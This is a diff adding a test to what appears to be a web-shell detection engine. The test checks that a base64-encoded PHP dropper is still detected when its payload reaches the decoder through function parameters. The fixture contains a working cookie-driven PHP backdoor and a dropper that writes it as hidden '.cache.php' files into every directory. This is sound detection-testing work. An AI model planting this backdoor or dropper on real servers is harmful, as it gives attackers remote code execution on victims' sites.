@@ -222,3 +222,23 @@ def test_php_kept_base64_encoded_in_a_non_script_file_is_decoded_and_detected() 
     assert any(r.id == "WH-D-002" for r in verdict.reasons)
     harmless = b"GIF89a\x01\x00\x01\x00\n" + base64.b64encode(b"<?php echo 'hello'; ?>") + b"\n"
     assert detect_bytes(harmless, "uploads/pixel.gif").score < 40
+
+
+def test_base64_php_a_dropper_carries_is_decoded_however_it_is_written_out() -> None:
+    import base64
+
+    from webhunt.detect.engine import detect_bytes
+
+    backdoor = b"<?php\n$c = $_COOKIE;\n$f = $c['a'];\nif ($f) { $g = $f($c['b']); $g(); }\n"
+    blob = base64.b64encode(backdoor).decode()
+    # the blob reaches base64_decode through parameters the analysis does not follow
+    dropper = (
+        f'$payload = "{blob}";\n'
+        "function put_all($dirs, $p) { foreach ($dirs as $d) { write_one($d . '/.cache.php', $p); } }\n"
+        "function write_one($n, $p) { $h = fopen($n, 'w'); fwrite($h, base64_decode($p)); }\n"
+        "put_all(glob('*', GLOB_ONLYDIR), $payload);\n"
+    ).encode()
+    verdict = detect_bytes(dropper, "tmp/x.php")
+    assert any(r.id == "WH-D-002" for r in verdict.reasons), verdict.reasons
+    harmless = f'<?php $tpl = "{base64.b64encode(b"<?php echo 1; ?>").decode()}";'.encode()
+    assert detect_bytes(harmless, "x.php").score < 40
